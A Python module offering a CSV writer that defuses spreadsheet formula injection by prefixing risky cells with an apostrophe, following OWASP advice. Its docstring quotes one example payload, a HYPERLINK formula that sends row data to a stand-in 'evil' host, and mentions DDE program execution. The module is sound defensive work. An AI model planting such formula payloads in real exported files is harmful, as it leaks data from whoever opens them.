"""One helper for every CSV the product writes: no cell may become a spreadsheet formula.

Names, notes and errors in these files are user text, and staff open them in Excel or WPS: a cell
that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is run as a formula
there (`=HYPERLINK("http://evil/?"&A1, "点击")` leaks the row; DDE runs programs). Such a cell gets
a leading apostrophe, the OWASP advice for CSV injection: spreadsheets show the text as it was.
Numbers stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["FORMULA_START", "SafeWriter", "safe_cell", "safe_writer"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """The value, or for text a spreadsheet would read as a formula, the text behind an apostrophe.

    Leading spaces are looked through: some spreadsheets trim them before deciding.
    """
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_START):
        return "'" + value
    return value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeWriter:
    """A csv.writer whose every cell passes through `safe_cell`."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(fh: Any, **kwargs: Any) -> SafeWriter:
    """`csv.writer(fh, **kwargs)` with formula cells defused."""
    return SafeWriter(csv.writer(fh, **kwargs))
